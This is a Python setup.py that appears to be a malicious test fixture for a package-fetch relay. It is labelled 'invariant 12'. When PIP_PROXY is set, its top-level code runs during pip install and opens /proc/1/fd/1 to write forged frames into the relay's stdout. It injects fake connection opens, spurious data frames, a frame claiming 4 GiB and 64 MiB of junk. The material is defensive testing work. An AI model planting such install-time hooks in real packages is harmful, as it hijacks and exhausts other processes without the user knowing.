# Malicious (invariant 12): setup.py's top level, run while pip prepares
# metadata in the fetch phase, writes frames of its own into relay.js's
# stdout (a pipe, which /proc/1/fd/1 opens for the same user): 10,000 opens
# relay.js never made, 100,000 frames for connections nobody opened, and
# then a frame that claims 4 GiB, followed by 64 MiB. The host reads that
# stream; it must stop the fetch, not buffer the frame.
import os
import struct
import sys

from setuptools import setup


def frame(conn, kind, payload=b"", length=None):
    return struct.pack(">IBI", conn, kind, len(payload) if length is None else length) + payload


if os.environ.get("PIP_PROXY"):
    try:
        out = os.open("/proc/1/fd/1", os.O_WRONLY)
    except OSError as e:
        print("relay-hijack: cannot open the relay's stdout:", e, file=sys.stderr, flush=True)
        out = None
    if out is not None:
        print("relay-hijack: writing into the relay's stdout", file=sys.stderr, flush=True)
        # Writes of at most 4 KiB (PIPE_BUF) do not interleave with relay.js's.
        opens = b"".join(frame(1_000_000 + i, 1) for i in range(10_000))
        for i in range(0, len(opens), 4095 // 9 * 9):
            os.write(out, opens[i:i + 4095 // 9 * 9])
        tiny = frame(7_000_000, 2, b"x") * (4000 // 10)
        for _ in range(100_000 // 400):
            os.write(out, tiny)
        os.write(out, frame(1_000_000, 2, length=0xFFFFFFFF))
        junk = b"j" * (1 << 20)
        try:
            for _ in range(64):
                os.write(out, junk)
        except OSError as e:
            print("relay-hijack: the junk stopped:", e, file=sys.stderr, flush=True)
setup(name="relay-hijack", version="1.0", py_modules=[])
